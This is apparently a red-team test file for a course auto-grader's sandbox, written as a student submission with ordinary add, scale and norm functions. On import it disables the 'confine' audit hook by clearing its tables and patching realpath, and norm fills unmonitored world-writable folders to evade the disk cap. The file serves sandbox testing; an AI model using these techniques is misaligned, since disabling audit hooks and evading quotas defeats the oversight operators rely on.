"""Attack: write where the grader neither measures nor cleans (uid level).

At the unprivileged-uid level the grader measures and removes what the child's uid owns in /tmp,
/var/tmp and /dev/shm only. Any other folder that every user may write to (on Debian /run/lock,
which /var/lock points to) is neither counted against the disk cap nor cleaned. The child looks
for such folders and writes 16 MB (twice the course's 8 MB cap) there, in files of 60 KB (under
the per-file rlimit) whose names start with "redteam-". Expected when the sandbox holds: the
writes fail or the child is stopped, so norm scores nothing (exactly 6 points), and no
"redteam-" file is left anywhere.
"""

import os
import posixpath
import sys

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


SCRATCH = ("/tmp", "/var/tmp", "/dev/shm")


def _writable_folders():
    found = []
    for top in ("/run", "/var", "/dev", "/home", "/opt", "/srv", "/mnt", "/media"):
        for folder, folders, _ in os.walk(top):
            if folder.count("/") > 3:
                folders[:] = []
            real = os.path.realpath(folder)
            if real.startswith(SCRATCH) or real in found:
                continue
            if os.access(folder, os.W_OK | os.X_OK):
                found.append(real)
    return found


def _fill(folder, megabytes):
    chunk = b"x" * 60_000
    written = 0
    for number in range(megabytes * 2**20 // len(chunk) + 1):
        try:
            with open(os.path.join(folder, f"redteam-{os.getpid()}-{number}"), "wb") as handle:
                handle.write(chunk)
        except OSError:
            return written
        written += len(chunk)
    return written


def norm(x):
    """The right norm only if 16 MB went where nobody counts them."""
    for folder in _writable_folders():
        if _fill(folder, 16) >= 16 * 2**20:
            return float(np.sqrt(np.sum(x * x)))
    return -1.0
